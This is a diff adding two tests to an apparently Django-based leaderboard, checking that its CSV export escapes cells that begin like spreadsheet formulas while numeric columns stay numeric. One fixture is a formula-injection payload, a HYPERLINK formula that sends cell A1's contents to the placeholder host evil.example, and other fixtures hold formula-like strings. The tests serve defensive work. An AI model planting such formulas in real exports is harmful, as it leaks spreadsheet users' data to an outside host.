@@ -200,3 +200,32 @@ def test_the_operator_board_page_shows_the_json_numbers(world: dict[str, Any]) -
         f"/api/boards/{release.pk}/H200/operators/gemm_fp16/?format=csv").content.decode())))
     assert [(r["rank"], r["team"], f"{float(r['score']):.3f}") for r in exported] == cells
     assert "solve rate (correct and native on every shape)\n   1.00" in page
+
+
+def test_the_csv_export_neutralises_formulas_in_team_supplied_text(world: dict[str, Any]) -> None:
+    release = world["release"]
+    weight_set_activate(weight_set=world["norm_only"], actor=None)
+    hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
+    Submission.objects.filter(team__name="Red").update(agent=hyperlink, model_name="@SUM(1)")
+    exported = list(csv.DictReader(io.StringIO(Client().get(
+        f"/api/boards/{release.pk}/H200/?format=csv").content.decode())))
+    red = next(r for r in exported if r["team"] == "Red")
+    assert (red["agent"], red["model"]) == ("'" + hyperlink, "'@SUM(1)")
+    assert float(red["aggregate"]) > 0  # numbers are still numbers
+
+
+def test_csv_cells_that_start_like_formulas_are_text_and_numbers_stay_numbers() -> None:
+    from leaderboard.selectors import COLUMNS, NUMBER_COLUMNS, rows_as_csv
+
+    row: dict[str, Any] = {column: None for column in COLUMNS}
+    row.update({"rank": 1, "team": "+Red", "submission": 7, "aggregate": -0.25,
+                "output_tokens": 1200, "agent": "-2+3", "model": "\tcmd", "date": "\rx",
+                "badges": ["@once", "twice\r=1+1"]})
+    rows = list(csv.DictReader(io.StringIO(rows_as_csv([row]))))
+    assert len(rows) == 1  # a carriage return inside a cell starts no row of its own
+    exported = rows[0]
+    assert [exported[c] for c in ("team", "agent", "model", "date", "badges")] == [
+        "'+Red", "'-2+3", "'\tcmd", "'\nx", "'@once; twice\n=1+1"]
+    assert (exported["aggregate"], exported["output_tokens"], exported["rank"]) == (
+        "-0.25", "1200", "1")
+    assert all(exported[c] == "" for c in NUMBER_COLUMNS if c != "aggregate")
